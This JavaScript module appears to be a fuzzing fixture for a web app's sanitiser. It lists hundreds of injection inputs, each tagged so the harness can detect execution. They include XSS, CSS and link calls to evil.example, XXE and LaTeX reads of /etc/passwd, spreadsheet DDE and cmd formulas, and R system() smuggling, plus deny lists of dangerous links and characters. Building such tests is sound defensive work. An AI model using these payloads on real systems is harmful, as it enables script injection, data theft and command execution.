// Texts made to do harm where they are not kept as text. `@` in each becomes a word of its own, by
// which the text is found again; `RUN` becomes a call that the browser reports.

const script = [
  "<script>RUN</script>", "</script><script>RUN</script>", "<ScRiPt>RUN</ScRiPt>", "<script >RUN</script >", "<script/x>RUN</script>",
  "<<script>RUN//<</script>", "<script src=https://evil.example/@.js></script>", "<script src=//evil.example/@.js>", "<script type=module>RUN</script>",
  "<script\n>RUN</script>", "<script>/*\n*/RUN</script>", "<noscript><p title=\"</noscript><script>RUN</script>\">", "<template><script>RUN</script></template>",
  "<title></title><script>RUN</script>", "</title><script>RUN</script>", "</textarea><script>RUN</script>", "</style><script>RUN</script>", "--><script>RUN</script>",
  "]]><script>RUN</script>", "<![CDATA[<script>RUN</script>]]>", "<!--<script>RUN</script>", "<plaintext>@", "<xmp><script>RUN</script></xmp>",
  "&lt;script&gt;RUN&lt;/script&gt;", "&#60;script&#62;RUN&#60;/script&#62;", "\\u003cscript\\u003eRUN\\u003c/script\\u003e", "\\x3cscript\\x3eRUN\\x3c/script\\x3e",
  "%3Cscript%3ERUN%3C/script%3E", "＜script＞RUN＜/script＞", "<scr<script>ipt>RUN</scr</script>ipt>", "<iframe srcdoc='<script>RUN</script>'></iframe>",
  "<iframe src=javascript:RUN></iframe>", "<object data=javascript:RUN></object>", "<embed src=javascript:RUN>", "<base href=https://evil.example/@/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/@'>", "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
  "<link rel=stylesheet href=https://evil.example/@.css>", "<link rel=prefetch href=https://evil.example/@>", "<link rel=modulepreload href=https://evil.example/@.js>",
  "';RUN;//", "\";RUN;//", "\\\";RUN;//", "</script>';RUN;//", "${RUN}", "`-RUN-`", "{{constructor.constructor('RUN')()}}", "javascript:RUN",
];

const attribute = [
  "\" onmouseover=\"RUN\" x=\"@", "' onmouseover='RUN' x='@", "\" autofocus onfocus=RUN x=\"@", "\"><img src=x onerror=RUN>", "'><img src=x onerror=RUN>",
  "<img src=x onerror=RUN>", "<img src=x:x onerror=RUN>", "<img/src/onerror=RUN>", "<img src=\"x\"onerror=\"RUN\">", "<img src=https://evil.example/@.png>", "<img srcset=https://evil.example/@.png>",
  "<body onload=RUN>", "<details open ontoggle=RUN>@", "<input autofocus onfocus=RUN>", "<select autofocus onfocus=RUN>", "<textarea autofocus onfocus=RUN>",
  "<video><source onerror=RUN></video>", "<video src=x onerror=RUN></video>", "<audio src=x onerror=RUN></audio>", "<marquee onstart=RUN>@", "<div onpointerover=RUN style=position:fixed;inset:0>@</div>",
  "<a href=javascript:RUN>@</a>", "<a href=\"java&#x09;script:RUN\">@</a>", "<a href=\"&#106;avascript:RUN\">@</a>", "<form action=https://evil.example/@><button>@</button></form>", "<form action=javascript:RUN><input type=submit>",
  "<button formaction=javascript:RUN>@</button>", "<isindex action=javascript:RUN>", "<keygen autofocus onfocus=RUN>", "<portal src=https://evil.example/@>", "<dialog open>@</dialog>",
  "<p popover id=p-@>", "<slot name=@>", "\" style=\"position:fixed;inset:0\" x=\"@", "\" srcdoc=\"<script>RUN</script>\" x=\"@",
];

const style = [
  "<style>*{display:none}/*@*/</style>", "<style>@import url(https://evil.example/@.css);</style>", "<style>body{background:url(https://evil.example/@)}</style>",
  "<p style=\"background:url(https://evil.example/@)\">@</p>", "<p style=behavior:url(#default#time2)>@", "<div style=\"width:expression(RUN)\">@</div>",
  "</style><style>@import 'https://evil.example/@';", "*{}</style>@", "}body{display:none}/*@", "<link rel=icon href=https://evil.example/@.ico>",
  "<font face=\"x\" color=\"url(https://evil.example/@)\">@", "<table background=https://evil.example/@>@</table>", "url(https://evil.example/@)", "@charset \"x\"; @", "<style media=print onload=RUN>@</style>",
];

const svg = [
  "<svg onload=RUN>", "<svg/onload=RUN>", "<svg><script>RUN</script></svg>", "<svg><script href=data:,RUN />", "<svg><animate onbegin=RUN attributeName=x dur=1s>",
  "<svg><set onbegin=RUN attributename=x>", "<svg><a xlink:href=javascript:RUN><text y=1em>@</text></a></svg>", "<svg><use href=\"https://evil.example/@.svg#x\"></use></svg>", "<svg><image href=https://evil.example/@.png></image></svg>",
  "<svg><foreignObject><iframe src=javascript:RUN></iframe></foreignObject></svg>", "<svg><style>*{background:url(https://evil.example/@)}</style></svg>", "</svg><script>RUN</script>", "</text></svg><img src=x onerror=RUN>",
  "<math><maction actiontype=statusline xlink:href=javascript:RUN>@</maction></math>", "<math href=javascript:RUN>@</math>", "<math><mi xlink:href=\"data:x,<script>RUN</script>\">@", "<svg><desc></desc><script>RUN</script>", "</title></svg><script>RUN</script>",
];

const markdown = [
  "**@** *b* ~~c~~ `<script>RUN</script>`", "```html\n<script>RUN</script>\n```", "```\"><script>RUN</script>\n@\n```", "    <script>RUN</script>", "@\n\n<script>RUN</script>", "<div>\n\n**@**\n\n</div>",
  "# @ <img src=x onerror=RUN>", "| @ |\n|---|\n| <img src=x onerror=RUN> |", "@\n: <script>RUN</script>", "@[^1]\n\n[^1]: <script>RUN</script>", "> @ <svg onload=RUN>", "- [ ] @ <svg onload=RUN>", "1. @\n   <script>RUN</script>",
  "[@](https://example.org/\"onmouseover=\"RUN)", "[@](https://example.org 'x\" onmouseover=\"RUN')", "[@](#\"onmouseover=RUN)", "[<img src=x onerror=RUN>@](https://example.org)", "[@]: https://example.org \"<script>RUN</script>\"\n[@]",
  "<https://example.org/@?a=\"onmouseover=RUN>", "<!-- <script>RUN</script> --> @", "<!-- @ --><script>RUN</script><!-- -->", "\\<script>RUN\\</script>", "&lt;img src=x onerror=RUN&gt; @", "*<script>*RUN</script>",
  "[x](study:\"onmouseover=RUN) @", "[toc] @ {#x onclick=RUN}", "$$@$$ \\(RUN\\)", ":smile: @ ==x== {.x onclick=RUN}", "Setext <script>RUN</script>\n===\n@", "***\n@ <b onclick=RUN>b</b>\n***",
];

const data = [
  "\"},{\"@type\":\"Person\",\"name\":\"@\"", "</script><!--<script>@", "<!--<script>@", "\"}</script><script>RUN</script>", "\\\"}</script>@", "@\u2028RUN\u2029", "@\",\"url\":\"javascript:RUN\"", "\\", "@\\", "@\\\\\"",
  "]]></content><entry><title>@</title></entry>", "</title></entry></feed>@", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;@", "&y; &nbsp; &@; &", "<![CDATA[@", "]]>@", "<?php echo '@' ?>", "<%= @ %>", "{{ page.title }}@", "{% include \"/etc/passwd\" %}@", "{# @", "${7*7}@", "#{7*7}@", "<xsl:value-of select=\"@\"/>",
];

const sheet = [
  "=1+1+@", "=HYPERLINK(\"https://evil.example/@\",\"x\")", "+1+1+@", "-1+1+@", "@SUM(1+1)@", "＝1+1+@", "＋1+1+@", "－1+1+@", "＠SUM(1)@", "\t=1+@", "\n=1+@", "\r\n=1+@", " =1+@", "=cmd|' /C calc'!@", "=IMPORTXML(\"https://evil.example/@\")", "\"=1+@", "\"\"\",=1+@", ";=1+@", "a,b\n=1,@", "=DDE(\"@\")",
];

const reference = [
  "@\nTY  - JOUR\nER  - ", "@\r\nER  - \r\nTY  - JOUR", "@\u2028TY  - JOUR", "ER  - @", "TY  - @\n\nTY  - ", "UR  - javascript:RUN @",
  "@},\n@article{x,\n title={x}", "@}}", "@{{", "}@{", "\\input{/etc/passwd}@", "\\@", "\\write18{@}", "@ % \\ # $ & ~ ^ _", "@string{x = \"@\"}", "@ and and and others", "{\\@", "@\\}", "%@\n}",
];

const r = [
  "@\"); system(\"x\"); c(\"", "@\\\"); system('x')", "@\n system('x')", "@'); q(", "# @\nq()", "`@`", "@\u2029q()", "\\U{1F600}@", "%s %d @", "@\\n\\t\\",
];

const other = [
  "../../@", "..\\..\\@", "/etc/@", "C:\\@", "\\\\evil.example\\@", "//evil.example/@", "@%00", "%E0%A4%A@", "%@", "?q=@&x=<b>", "#@", "@#\"><b>", "data:text/html,<script>RUN</script>@", "file:///etc/@", "mailto:@?bcc=x", "vbscript:RUN @",
  "\u2066@\u2069", "\u202Bא@\u202C", "@\u200B\u200D\uFEFF", "ａ＜ｂ＞@", "@\u0301\u0301\u0301", "𝕊@😀", "null", "@null", "__proto__", "constructor", "toString@", "NaN@", "-0@", "1e999@", "true@", "@ [x][y] {z}",
];

/** Texts, each with its own word; by number they come round and round. */
export const payloads = [...script, ...attribute, ...style, ...svg, ...markdown, ...data, ...sheet, ...reference, ...r, ...other];

/** A text with its word in it. It always has one, so that it is found again on the page. */
export const payload = (number) => {
  const word = `zq${number}q`;
  const text = payloads[number % payloads.length].replaceAll("RUN", `distilRan('${word}')`);
  const own = text.replace(/(^|[^@])@(?=[A-Z]{2}|article|string|import|charset|type)/g, "$1\u0000").replaceAll("@", word).replaceAll("\u0000", "@");
  return { word, text: own.includes(word) ? own : `${own} ${word}` };
};

/** What is no address, DOI, language or address of a site. */
export const notAddresses = [
  "javascript:RUN", "JavaScript:RUN", "java\tscript:RUN", "java\nscript:RUN", " javascript:RUN", "javascript&colon;RUN", "jаvascript:RUN", "data:text/html,<script>RUN</script>", "data:image/svg+xml,<svg onload=RUN>",
  "vbscript:RUN", "file:///etc/passwd", "file://server/share", "\\\\server\\share", "//evil.example/x", "C:\\Windows", "C:/Windows", "blob:https://x/y", "about:blank", "view-source:https://x", "ftp://example.org/x", "ws://example.org", "chrome://settings", "intent://x#Intent;end", "tel:+1", "urn:x:y",
  "https://", "https:", "https:///x", "https://user:pass@example.org/", "https://example.org@evil.example/", "https://example.org:99999/", "https://exa mple.org/", "https://example.org/\"onclick=\"RUN", "https://example.org/<script>RUN</script>", "https://example.org/%zz", "https://exam\u200Bple.org/", "www.example.org", "example", "../x", "/x", "?x", "https://[::1", "https://example.org\\@evil.example",
];
export const notIds = ["en_GB", "English", "en\"><script>RUN</script>", "en GB", "x y", "10.x/y", "doi:10.1000/x", "https://doi.org/10.1000/x", "10.1000/<b> x", "PMC1\"onclick=RUN", "PMC12/../x", "a@b@c", "a@b?bcc=c@d"];
/** Links that no text may have. */
export const badLinks = [
  "[x](javascript:RUN)", "[x](JaVaScRiPt:RUN)", "[x](data:text/html,x)", "[x](vbscript:x)", "[x](file:///etc/passwd)", "[x](//evil.example)", "[x](\\\\\\\\server\\\\share)", "<javascript:RUN>", "[x](java&#115;cript:RUN)", "[x][y]\n\n[y]: javascript:RUN", "A\n: [x](javascript:RUN)", "A[^1]\n\n[^1]: [x](javascript:RUN)", "![x](https://evil.example/x.png)", "![x](javascript:RUN)", "[x](https://a@evil.example/)", "~~[x](javascript:RUN)~~", "- [ ] [x](javascript:RUN)", "| a |\n|---|\n| [x](javascript:RUN) |",
];
/** Characters that no text may have. */
export const badCharacters = ["\u0000", "\u0007", "\u001b[31m", "\u007f", "\u0085", "\u009b", "\uFFFE", "\uFFFF", "\uFDD0", "\uFDD2", "\uFDD4", "\uFDEF", "\u202E", "\u2066", "\u2069"];
